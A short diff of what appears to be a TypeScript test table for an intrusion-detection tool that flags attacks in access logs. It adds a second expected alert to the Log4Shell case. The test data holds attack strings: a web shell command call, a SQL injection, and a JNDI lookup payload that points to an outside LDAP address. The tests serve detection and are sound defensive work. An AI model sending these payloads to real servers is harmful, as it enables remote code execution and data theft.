@@ -81,7 +81,11 @@ const CASES: readonly [name: string, records: readonly (string | JsonObject)[], 
   ],
   ['a web shell is called', [access(1, 'POST /uploads/a.php?c=id', 200)], ['Script requested from an upload folder']],
   ['injection', [access(1, 'GET /item?id=1%20UNION%20SELECT%201,2', 500)], ['SQL injection in a request']],
-  ['Log4Shell', [access(1, 'GET /', 200, '\u0024{jndi:ldap://203.0.113.9/a}')], ['JNDI lookup in a request (Log4Shell)']],
+  [
+    'Log4Shell',
+    [access(1, 'GET /', 200, '\u0024{jndi:ldap://203.0.113.9/a}')],
+    ['JNDI lookup in a request (Log4Shell)', 'Shell function or lookup in a request header'],
+  ],
   [
     'sudo',
     [
